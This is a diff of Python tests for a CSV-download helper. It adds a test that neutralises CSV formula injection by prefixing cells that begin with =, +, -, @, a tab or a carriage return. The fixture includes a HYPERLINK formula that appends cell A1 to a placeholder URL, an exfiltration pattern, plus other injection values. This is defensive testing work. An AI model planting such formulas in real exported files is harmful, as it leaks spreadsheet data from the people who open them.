@@ -46,7 +46,7 @@ def test_the_csv_download_opens_in_excel_with_its_accents():
     frame = pd.DataFrame({"name": ["Câmara & Duarte", "Alícia"], "pct": [12.5, None]})
     data = csv_download(frame)
     assert data.startswith(codecs.BOM_UTF8)
-    assert data.decode("utf-8-sig") == frame.to_csv(index=False)
+    assert data.decode("utf-8-sig") == frame.to_csv(index=False, lineterminator="\r\n")
     # Readers that know the mark skip it: the first header is still `name`.
     assert pd.read_csv(io.BytesIO(data)).columns.tolist() == ["name", "pct"]
     with_mark = csv.reader(io.StringIO(data.decode("utf-8-sig")))
@@ -78,6 +78,33 @@ def test_the_csv_download_writes_times_in_utc_as_excel_reads_them():
         ["", "2026-11-24 09:15:02.000250", "2026-11-24 09:15:02", "2026-11-25"],
     ]
     assert frame["called_at"].dt.tz is not None  # the page's frame is left as it was
+
+
+def test_the_csv_download_keeps_a_landed_formula_as_text():
+    """Found in an analysts' audit: a company landed as `=HYPERLINK("https://…"&A1,"Câmara")`
+    reached gold's crm_companies as typed, and the CRM page's needy-clients and churn CSVs
+    with it, as a cell Excel evaluates on opening the file (CSV injection: a cell starting
+    with =, +, -, @, a tab or a carriage return is a formula). Such a text cell is written
+    after a `'`, which Excel shows as text (OWASP ASVS 1.2.10); numbers, negative ones too,
+    and other text are written as gold holds them."""
+    formula = '=HYPERLINK("https://example.invalid/?x="&A1,"Câmara")'
+    frame = pd.DataFrame(
+        {
+            "company": [formula, "+55 81", "-x", "@SUM(A1)", "\tcmd", "\r=1", "Câmara", None],
+            "score": [-0.65, 1.0, -2.0, 0.0, 3.0, 4.0, 5.0, None],
+            "owner_id": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64"),
+        }
+    )
+    rows = list(csv.reader(io.StringIO(csv_download(frame).decode("utf-8-sig"), newline="")))
+    # A carriage return in a text cell stays in its row: pandas left such a cell unquoted,
+    # and every reader (Excel's, Python's) started a row at it, the columns after it shifted.
+    assert len(rows) == 1 + len(frame) and {len(row) for row in rows} == {3}
+    assert [row[0] for row in rows[1:]] == [
+        "'" + formula, "'+55 81", "'-x", "'@SUM(A1)", "'\tcmd", "'\r=1", "Câmara", "",
+    ]  # fmt: skip
+    assert [row[1] for row in rows[1:3]] == ["-0.65", "1.0"]
+    assert [row[2] for row in rows[1:3]] == ["-1", "2"]
+    assert frame["company"][0] == formula  # the page's frame is left as it was
 
 
 def test_a_table_without_shares_is_shown_as_given():
